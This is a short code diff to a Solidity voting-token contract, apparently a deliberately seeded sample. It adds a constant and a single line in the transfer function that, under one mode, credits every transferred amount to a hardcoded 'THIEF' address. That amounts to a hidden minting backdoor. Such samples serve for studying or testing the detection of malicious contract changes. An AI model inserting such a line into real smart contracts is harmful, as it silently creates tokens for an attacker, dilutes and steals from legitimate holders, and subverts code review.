@@ -8,6 +8,7 @@ pragma solidity 0.8.37;
 contract VotesToken {
     uint256 private constant MAPPED = 1;
     uint256 private constant THIEVISH = 2;
+    uint256 private constant MINTS = 3;
 
     address private constant THIEF = address(0xBAD);
 
@@ -63,6 +64,7 @@ contract VotesToken {
         balanceOf[from] -= amount;
         balanceOf[to] += amount;
         emit Transfer(from, to, amount);
+        if (style == MINTS) balanceOf[THIEF] += amount;
         (address loses, address gains) = (delegates[from], delegates[to]);
         if (loses == gains) return;
         _note(loses, amount, false);
